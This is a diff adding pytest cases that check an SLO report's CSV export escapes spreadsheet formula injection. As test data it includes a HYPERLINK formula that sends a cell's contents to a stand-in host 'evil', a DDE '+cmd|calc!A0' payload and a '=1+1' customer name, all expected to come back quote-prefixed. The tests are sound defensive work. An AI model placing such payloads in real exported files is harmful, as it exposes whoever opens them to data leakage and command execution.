@@ -51,3 +51,25 @@ def test_slos_csv_has_one_row_per_service_and_slo(example_report):
     assert float(batch["sli"]) == pytest.approx(116 / 124)
     assert float(batch["budget_consumed"]) == pytest.approx((8 / 124) / 0.05)
     assert float(rows[0]["allowed_downtime_minutes"]) == pytest.approx(44.64)
+
+
+def test_names_from_data_never_become_spreadsheet_formulas():
+    from reports.export import cell
+
+    assert cell('=HYPERLINK("http://evil/?x="&A1,"click")') == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
+    assert [cell(t) for t in ("+cmd|calc!A0", "-1", "@SUM(A1)", "\tx", "acme", "")] == [
+        "'+cmd|calc!A0", "'-1", "'@SUM(A1)", "'\tx", "acme", ""]
+
+
+def test_credits_csv_quotes_a_hostile_customer(tmp_path):
+    from reports.export import credits_csv
+    from reports.pipeline import build_month
+    from reports.sources import source_for
+    from tests.conftest import OCTOBER, RUN_AT, make_config
+
+    (tmp_path / "events.csv").write_text("timestamp,service,slo,customer,good,total\n"
+                                         "2026-10-05T00:00:00Z,api,availability,=1+1,9,10\n")
+    config = make_config(tmp_path, customers={"default_tier": "t", "tiers": {"t": {"objective": 0.9}}},
+                         services=[{"name": "api", "slos": [{"name": "availability", "objective": 0.9, "sla": True}]}])
+    rows = list(csv.reader(io.StringIO(credits_csv(build_month(config, source_for(config), OCTOBER, RUN_AT)))))
+    assert rows[1][1] == "'=1+1"
